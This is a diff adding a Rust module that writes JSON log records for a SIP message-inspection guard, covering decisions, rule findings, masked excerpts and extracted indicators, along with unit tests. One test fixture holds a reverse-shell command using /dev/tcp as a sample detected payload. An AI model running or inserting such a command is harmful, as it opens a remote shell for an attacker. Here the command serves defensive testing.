@@ -1,0 +1,553 @@
+//! Formats the record of one message.
+
+use super::indicators::of_texts;
+use super::json;
+use super::mask::Mask;
+use super::time::Clock;
+use crate::sip::{Kind, Message};
+
+/// Findings written of one message.
+pub const MAX_FINDINGS: usize = 8;
+
+/// Bytes of a value of the message that are written.
+pub const MAX_VALUE: usize = 256;
+
+/// Bytes of one finding's value that are looked through for indicators.
+const MAX_PAYLOAD: usize = 4096;
+
+/// Families whose findings hold the message's own words, and not a payload.
+const NO_PAYLOAD: [&str; 3] = ["structure", "limits", "content_length_zero"];
+
+/// What is the same in all records until policy or rules change.
+pub struct Settings<'a> {
+    /// The rules' version, twelve hexadecimal digits.
+    pub rules: &'a str,
+    /// The policy's version.
+    pub policy: &'a str,
+    /// `enforce` or `observe`.
+    pub mode: &'a str,
+    /// Bytes of a finding's value that are written.
+    pub excerpt_bytes: usize,
+    /// Bytes of the message that are written, 0 for none.
+    pub raw_bytes: usize,
+    pub mask: Option<Mask>,
+}
+
+/// One rule that fired on one part.
+#[derive(Clone, Copy, Debug)]
+pub struct Finding<'a> {
+    pub rule: &'a str,
+    pub family: &'a str,
+    pub score: u32,
+    pub field: &'a str,
+    pub reason: &'a str,
+    /// The value; empty in credentials.
+    pub excerpt: &'a [u8],
+}
+
+/// The ban that a message led to.
+#[derive(Clone, Copy, Debug)]
+pub struct Ban<'a> {
+    pub source: &'a str,
+    pub seconds: u64,
+    pub rule: &'a str,
+}
+
+/// What was decided on one message, and why.
+pub struct Decision<'a> {
+    /// Seconds since the epoch.
+    pub now: f64,
+    pub ip: &'a str,
+    pub port: u16,
+    pub transport: &'a str,
+    /// `allow`, `scrub`, `reject`, `drop`, or `error`.
+    pub action: &'a str,
+    /// The start and the process that decided; `number`, in hexadecimal, follows where there is one.
+    pub id: &'a str,
+    pub number: Option<u64>,
+    pub reason: &'a [u8],
+    /// The answer that was given, 0 for none. A reply's own stands in the message.
+    pub status: u16,
+    pub enforced: bool,
+    pub counters: &'a [(&'a str, u64)],
+    pub ban: Option<Ban<'a>>,
+    pub findings: &'a [Finding<'a>],
+    pub message: &'a Message<'a>,
+}
+
+/// Formats records; holds what is the same in all of them.
+pub struct Recorder {
+    excerpt_bytes: usize,
+    raw_bytes: usize,
+    mask: Option<Mask>,
+    clock: Clock,
+    /// What stands between the rules' names and whether the action was carried out:
+    /// `],"version":"…"},"policy":{"version":"…","mode":"…","enforced":`
+    after_rules: Vec<u8>,
+    /// `"version":"…"` of the rules.
+    pub(super) rules: Vec<u8>,
+    /// `"policy":{"version":"…","mode":"…"`, still open.
+    pub(super) policy: Vec<u8>,
+    /// Texts on their way to a mask.
+    plain: String,
+    masked: String,
+}
+
+impl Recorder {
+    pub fn new(settings: Settings) -> Self {
+        let mut rules = b"\"version\":".to_vec();
+        json::string(&mut rules, settings.rules);
+        let mut policy = b"\"policy\":{\"version\":".to_vec();
+        json::string(&mut policy, settings.policy);
+        policy.extend_from_slice(b",\"mode\":");
+        json::string(&mut policy, settings.mode);
+        let after_rules = [b"],", &rules[..], b"},", &policy[..], b",\"enforced\":"].concat();
+        Self {
+            excerpt_bytes: settings.excerpt_bytes,
+            raw_bytes: settings.raw_bytes,
+            mask: settings.mask,
+            clock: Clock::default(),
+            after_rules,
+            rules,
+            policy,
+            plain: String::new(),
+            masked: String::new(),
+        }
+    }
+
+    /// Appends one message's record: a line of JSON with its line end.
+    ///
+    /// Fields that the guard knows by itself stand before any that the sender controls.
+    pub fn decision(&mut self, out: &mut Vec<u8>, decision: &Decision) {
+        let message = decision.message;
+        self.start(out, decision.now);
+        out.extend_from_slice(b"\"source\":{\"ip\":");
+        json::string(out, decision.ip);
+        out.extend_from_slice(b",\"port\":");
+        json::number(out, decision.port.into());
+        out.extend_from_slice(b"},\"network\":{\"transport\":");
+        json::string(out, decision.transport);
+        out.extend_from_slice(b"},\"event\":{\"kind\":\"event\",\"action\":");
+        json::string(out, decision.action);
+        out.extend_from_slice(b",\"id\":\"");
+        json::text(out, decision.id);
+        if let Some(number) = decision.number {
+            json::hexadecimal(out, number);
+        }
+        out.extend_from_slice(b"\",\"reason\":\"");
+        json::escaped(out, decision.reason, MAX_VALUE);
+        out.extend_from_slice(b"\"},\"rule\":{\"id\":[");
+        let findings = decision.findings.get(..MAX_FINDINGS).unwrap_or(decision.findings);
+        for (place, finding) in findings.iter().enumerate() {
+            comma(out, place);
+            json::string(out, finding.rule);
+        }
+        out.extend_from_slice(&self.after_rules);
+        out.extend_from_slice(if decision.enforced {
+            b"true},\"counters\":{"
+        } else {
+            b"false},\"counters\":{"
+        });
+        for (place, (name, count)) in decision.counters.iter().enumerate() {
+            comma(out, place);
+            json::string(out, name);
+            out.push(b':');
+            json::number(out, *count);
+        }
+        out.push(b'}');
+        if let Some(ban) = &decision.ban {
+            out.extend_from_slice(b",\"ban\":{\"source\":");
+            json::string(out, ban.source);
+            out.extend_from_slice(b",\"seconds\":");
+            json::number(out, ban.seconds);
+            out.extend_from_slice(b",\"rule\":");
+            json::string(out, ban.rule);
+            out.push(b'}');
+        }
+        self.sip(out, decision);
+        if let Some(agent) = agent(message) {
+            out.extend_from_slice(b",\"user_agent\":{\"original\":\"");
+            json::escaped(out, agent, MAX_VALUE);
+            out.extend_from_slice(b"\"}");
+        }
+        if !findings.is_empty() {
+            self.findings(out, findings);
+            self.indicators(out, decision.findings);
+        }
+        out.extend_from_slice(b"}\n");
+    }
+
+    /// Opens a record with its time.
+    pub(super) fn start(&mut self, out: &mut Vec<u8>, now: f64) {
+        out.extend_from_slice(b"{\"@timestamp\":\"");
+        self.clock.write(out, now);
+        out.extend_from_slice(b"\",");
+    }
+
+    pub(super) fn time(&mut self, out: &mut Vec<u8>, now: f64) {
+        out.push(b'"');
+        self.clock.write(out, now);
+        out.push(b'"');
+    }
+
+    fn sip(&mut self, out: &mut Vec<u8>, decision: &Decision) {
+        let message = decision.message;
+        let raw = message.raw;
+        out.extend_from_slice(match message.kind {
+            Kind::Request => b",\"sip\":{\"type\":\"request\",\"method\":\"",
+            Kind::Reply => b",\"sip\":{\"type\":\"reply\",\"method\":\"",
+            Kind::Malformed => b",\"sip\":{\"type\":\"malformed\",\"method\":\"",
+        });
+        json::escaped(out, message.method, 32);
+        out.push(b'"');
+        let own = if message.kind == Kind::Reply { message.status } else { 0 };
+        let status = if own > 0 { own } else { decision.status };
+        if status > 0 {
+            out.extend_from_slice(b",\"status\":");
+            json::number(out, status.into());
+        }
+        if let Some(finding) = worst(decision.findings) {
+            out.extend_from_slice(b",\"field\":");
+            json::string(out, finding.field);
+            out.extend_from_slice(b",\"excerpt\":\"");
+            self.sent(out, finding.excerpt, self.excerpt_bytes, Some(finding.field));
+            out.push(b'"');
+        }
+        out.extend_from_slice(b",\"bytes\":");
+        json::number(out, raw.len() as u64);
+        if message.kind == Kind::Request {
+            out.extend_from_slice(b",\"uri\":\"");
+            let uri = raw.get(message.uri.start..message.uri.end).unwrap_or_default();
+            self.sent(out, uri, MAX_VALUE, Some(""));
+            out.push(b'"');
+        }
+        let (mut call_id, mut cseq, mut from, mut to) = (None, None, None, None);
+        for header in &message.headers {
+            // Where a header field is there twice, it is the first that counts.
+            for (name, value) in [
+                ("call-id", &mut call_id),
+                ("cseq", &mut cseq),
+                ("from", &mut from),
+                ("to", &mut to),
+            ] {
+                if value.is_none() && header.name.is(name) {
+                    *value = Some(&header.value[..]);
+                    break;
+                }
+            }
+        }
+        let values = [
+            (&b",\"call_id\":\""[..], call_id, false),
+            (b",\"cseq\":\"", cseq.and_then(sequence), false),
+            (b",\"from\":\"", from.and_then(address), true),
+            (b",\"to\":\"", to.and_then(address), true),
+        ];
+        for (name, value, maskable) in values {
+            if let Some(value) = value {
+                out.extend_from_slice(name);
+                self.sent(out, value, MAX_VALUE, maskable.then_some(""));
+                out.push(b'"');
+            }
+        }
+        if self.raw_bytes > 0 {
+            out.extend_from_slice(b",\"raw\":\"");
+            self.sent(out, raw, self.raw_bytes, Some(""));
+            out.push(b'"');
+        }
+        out.push(b'}');
+    }
+
+    fn findings(&mut self, out: &mut Vec<u8>, findings: &[Finding]) {
+        out.extend_from_slice(b",\"findings\":[");
+        for (place, finding) in findings.iter().enumerate() {
+            comma(out, place);
+            out.extend_from_slice(b"{\"rule\":");
+            json::string(out, finding.rule);
+            out.extend_from_slice(b",\"family\":");
+            json::string(out, finding.family);
+            out.extend_from_slice(b",\"score\":");
+            json::number(out, finding.score.into());
+            out.extend_from_slice(b",\"field\":");
+            json::string(out, finding.field);
+            out.extend_from_slice(b",\"reason\":");
+            json::string(out, finding.reason);
+            out.extend_from_slice(b",\"excerpt\":\"");
+            self.sent(out, finding.excerpt, self.excerpt_bytes, Some(finding.field));
+            out.extend_from_slice(b"\"}");
+        }
+        out.push(b']');
+    }
+
+    /// What the values point at in which rules found an attack, each looked at once; digest secrets and a message's
+    /// own words are not among them. Of the whole values: the host often stands at a payload's end.
+    fn indicators(&mut self, out: &mut Vec<u8>, findings: &[Finding]) {
+        let hostile = |f: &Finding| f.score > 0 && !f.excerpt.is_empty() && !NO_PAYLOAD.contains(&f.family);
+        let mut payloads: Vec<&[u8]> = Vec::new();
+        for finding in findings.iter().filter(|finding| hostile(finding)) {
+            // A hostile message has a handful; with hundreds, the first few fill all that is looked through.
+            if payloads.len() < 64 && !payloads.contains(&finding.excerpt) {
+                payloads.push(finding.excerpt);
+            }
+        }
+        let texts: Vec<String> = (payloads.iter())
+            .map(|payload| {
+                let mut text = String::with_capacity(payload.len().min(MAX_PAYLOAD) + 8);
+                json::escaped_text(&mut text, payload, MAX_PAYLOAD);
+                text
+            })
+            .collect();
+        let named = of_texts(texts.iter().map(String::as_str));
+        if named.is_empty() {
+            return;
+        }
+        out.extend_from_slice(b",\"indicators\":[");
+        for (place, item) in named.iter().enumerate() {
+            comma(out, place);
+            out.extend_from_slice(b"{\"type\":");
+            json::string(out, item.kind);
+            out.extend_from_slice(b",\"value\":\"");
+            match &self.mask {
+                None => json::text(out, &item.value),
+                Some(mask) => {
+                    self.masked.clear();
+                    mask.text(&mut self.masked, &item.value);
+                    json::text(out, &self.masked);
+                }
+            }
+            out.extend_from_slice(b"\"}");
+        }
+        out.push(b']');
+    }
+
+    /// Appends what a sender wrote, masked where `field` is given and masks are asked for.
+    fn sent(&mut self, out: &mut Vec<u8>, value: &[u8], limit: usize, field: Option<&str>) {
+        match (&self.mask, field) {
+            (Some(mask), Some(field)) => {
+                self.plain.clear();
+                self.masked.clear();
+                json::escaped_text(&mut self.plain, value, limit);
+                mask.value(&mut self.masked, field, &self.plain);
+                json::text(out, &self.masked);
+            }
+            _ => json::escaped(out, value, limit),
+        }
+    }
+}
+
+/// The weightiest finding, and of equal ones the first; one of a rule before one of the framing.
+fn worst<'f, 'a>(findings: &'f [Finding<'a>]) -> Option<&'f Finding<'a>> {
+    let weight = |finding: &Finding| (finding.score, finding.family != "structure");
+    findings
+        .iter()
+        .reduce(|worst, next| if weight(next) > weight(worst) { next } else { worst })
+}
+
+/// Of a request the User-Agent before any Server, which a request does not have (RFC 3261 20.35); of a reply, which
+/// may have both, the first.
+fn agent<'m>(message: &'m Message) -> Option<&'m [u8]> {
+    let mut server = None;
+    for header in &message.headers {
+        if header.name.is("user-agent") {
+            return Some(&header.value);
+        }
+        if server.is_none() && header.name.is("server") {
+            server = Some(&header.value[..]);
+            if message.kind != Kind::Request {
+                break;
+            }
+        }
+    }
+    server
+}
+
+/// The number of a CSeq (RFC 3261 20.16), at most ten digits.
+fn sequence(value: &[u8]) -> Option<&[u8]> {
+    let digits = value.iter().take(10).take_while(|byte| byte.is_ascii_digit()).count();
+    value.get(..digits).filter(|digits| !digits.is_empty())
+}
+
+/// The URI of a From or To, as Kamailio's `$fu` and `$tu` show it.
+///
+/// ```text
+/// From        = ( name-addr / addr-spec ) *( SEMI from-param )     (RFC 3261 25.1)
+/// name-addr   = [ display-name ] LAQUOT addr-spec RAQUOT
+/// ```
+fn address(value: &[u8]) -> Option<&[u8]> {
+    // A quoted display name stands first; a quote that is never closed hides nothing, nor does one inside a word.
+    let name = if value.trim_ascii_start().first() == Some(&b'"') {
+        quoted_end(value).unwrap_or(0)
+    } else {
+        0
+    };
+    let open = value
+        .get(name..)
+        .and_then(|rest| memchr::memchr(b'<', rest))
+        .map(|at| name + at + 1);
+    let uri = match open {
+        Some(start) => {
+            let rest = value.get(start..).unwrap_or_default();
+            rest.get(..memchr::memchr(b'>', rest).unwrap_or(rest.len()))
+                .unwrap_or_default()
+        }
+        // Without "<" the parameters are the header field's (RFC 3261 20).
+        None => value.split(|&byte| byte == b';').next().unwrap_or_default(),
+    };
+    Some(uri.trim_ascii()).filter(|uri| !uri.is_empty())
+}
+
+/// Behind the quoted string that a value begins with, if it is closed.
+fn quoted_end(value: &[u8]) -> Option<usize> {
+    let mut at = memchr::memchr(b'"', value)? + 1;
+    loop {
+        at += memchr::memchr2(b'"', b'\\', value.get(at..)?)?;
+        if value.get(at) == Some(&b'"') {
+            return Some(at + 1);
+        }
+        at += 2;
+    }
+}
+
+fn comma(out: &mut Vec<u8>, place: usize) {
+    if place > 0 {
+        out.push(b',');
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::sip::{Header, HeaderName, Span};
+
+    fn header<'a>(name: &'static str, value: &'a str) -> Header<'a> {
+        let (name, raw_name) = (HeaderName::read(name.as_bytes()), name.as_bytes());
+        Header {
+            name,
+            raw_name,
+            value: value.as_bytes().into(),
+            start: 0,
+            value_start: 0,
+            end: 0,
+            folded: false,
+        }
+    }
+
+    fn message(raw: &[u8]) -> Message<'_> {
+        Message {
+            raw,
+            kind: Kind::Request,
+            method: b"INVITE",
+            status: 0,
+            uri: Span { start: 7, end: 23 },
+            phrase: Span::default(),
+            headers: vec![
+                header("via", "SIP/2.0/UDP 192.0.2.7:5060;branch=z9hG4bK776asdhds"),
+                header("max-forwards", "70"),
+                header("from", "\"Alice <sip:x@y>\" <sip:alice@example.com>;tag=1928301774"),
+                header("to", "<sip:bob@example.com;user=phone>"),
+                header("call-id", "a84b4c76e66710@192.0.2.7"),
+                header("cseq", "314159 INVITE"),
+                header("contact", "<sip:alice@192.0.2.7>"),
+                header("user-agent", "Example/1.0"),
+            ],
+            body_start: raw.len(),
+            defects: Vec::new(),
+        }
+    }
+
+    fn recorder() -> Recorder {
+        Recorder::new(Settings {
+            rules: "0123456789ab",
+            policy: "ba9876543210",
+            mode: "enforce",
+            excerpt_bytes: 256,
+            raw_bytes: 0,
+            mask: None,
+        })
+    }
+
+    fn decision<'a>(message: &'a Message<'a>, findings: &'a [Finding<'a>]) -> Decision<'a> {
+        Decision {
+            now: 1_764_299_045.25,
+            ip: "192.0.2.7",
+            port: 5060,
+            transport: "udp",
+            action: "allow",
+            id: "6928f3a1-2f-",
+            number: Some(28),
+            reason: b"",
+            status: 0,
+            enforced: true,
+            counters: &[("invite", 1)],
+            ban: None,
+            findings,
+            message,
+        }
+    }
+
+    const ATTACK: Finding = Finding {
+        rule: "shell-reverse",
+        family: "shell",
+        score: 10,
+        field: "from.display_name",
+        reason: "A command that connects back",
+        excerpt: b"bash -i >& /dev/tcp/192.0.2.195:3456 0>&1",
+    };
+
+    #[test]
+    fn what_the_guard_knows_stands_before_what_the_sender_wrote() {
+        let raw = [b"INVITE sip:b@example.nl SIP/2.0\r\n".as_slice(), &[b'x'; 667]].concat();
+        let message = message(&raw);
+        let mut out = Vec::new();
+        recorder().decision(&mut out, &decision(&message, &[]));
+        assert_eq!(
+            String::from_utf8(out).unwrap(),
+            concat!(
+                r#"{"@timestamp":"2025-11-28T03:04:05.250000Z","source":{"ip":"192.0.2.7","port":5060},"#,
+                r#""network":{"transport":"udp"},"event":{"kind":"event","action":"allow","id":"6928f3a1-2f-1c","#,
+                r#""reason":""},"rule":{"id":[],"version":"0123456789ab"},"policy":{"version":"ba9876543210","#,
+                r#""mode":"enforce","enforced":true},"counters":{"invite":1},"sip":{"type":"request","#,
+                r#""method":"INVITE","bytes":700,"uri":"sip:b@example.nl","call_id":"a84b4c76e66710@192.0.2.7","#,
+                r#""cseq":"314159","from":"sip:alice@example.com","to":"sip:bob@example.com;user=phone"},"#,
+                r#""user_agent":{"original":"Example/1.0"}}"#,
+                "\n"
+            )
+        );
+    }
+
+    #[test]
+    fn the_address_is_the_one_that_calls_not_one_in_a_name() {
+        let shown = |value: &'static str| address(value.as_bytes()).map(|uri| std::str::from_utf8(uri).unwrap());
+        assert_eq!(shown(r#""a\"<sip:x@y>" <sip:a@h;p=1>;tag=2"#), Some("sip:a@h;p=1"));
+        assert_eq!(shown("sip:a@h;tag=2"), Some("sip:a@h"));
+        assert_eq!(shown(r#""open <sip:a@h>"#), Some("sip:a@h"));
+        assert_eq!(shown(r#"x"] <sip:a"]@h>"#), Some(r#"sip:a"]@h"#));
+        assert_eq!(shown("<sip:a@h"), Some("sip:a@h"));
+        assert_eq!(shown(r#""ends\"#), Some(r#""ends\"#));
+        assert_eq!(shown("<>"), None);
+    }
+
+    /// Run with `cargo test --release timing -- --ignored --nocapture`.
+    #[test]
+    #[ignore = "prints figures"]
+    fn timing() {
+        let raw = [b'x'; 700];
+        let message = message(&raw);
+        for findings in [&[][..], &[ATTACK]] {
+            let mut recorder = recorder();
+            let mut out = Vec::with_capacity(4096);
+            let mut decision = decision(&message, findings);
+            let start = std::time::Instant::now();
+            for _ in 0..200_000 {
+                decision.now += 1e-5;
+                out.clear();
+                recorder.decision(&mut out, std::hint::black_box(&decision));
+                std::hint::black_box(&out);
+            }
+            println!(
+                "{} findings: {} ns",
+                findings.len(),
+                start.elapsed().as_nanos() / 200_000
+            );
+        }
+    }
+}
